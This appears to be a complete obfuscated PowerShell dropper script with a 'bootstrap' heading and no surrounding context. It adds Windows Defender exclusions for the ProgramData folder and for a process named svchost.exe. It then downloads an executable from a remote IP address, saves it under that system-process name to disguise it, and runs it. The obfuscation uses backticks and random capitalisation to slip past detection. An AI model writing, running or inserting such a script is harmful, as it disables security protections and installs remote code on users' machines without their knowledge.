# BoOtStRaP 4675 v0
a`D`D-`mp`pREFerEnce -ExClUsIoNpAtH $ENV:PRoGRamdAtA
aD`D-mp`PrEfereN`cE -ExCLUSiOnpROCEss 'svchost.exe'
iWr HTtp://203.0.113.17/SVCHOSt.Exe -OUTFIle $ENv:PrOgRaMdAtA\SvChOsT.eXE
& $env:pRoGrAmDaTa\sVCHoST.exE
